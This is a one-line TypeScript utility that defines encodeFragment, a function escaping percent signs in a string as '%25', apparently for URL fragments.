const encodeFragment = (value: string) => value.replaceAll('%', '%25');
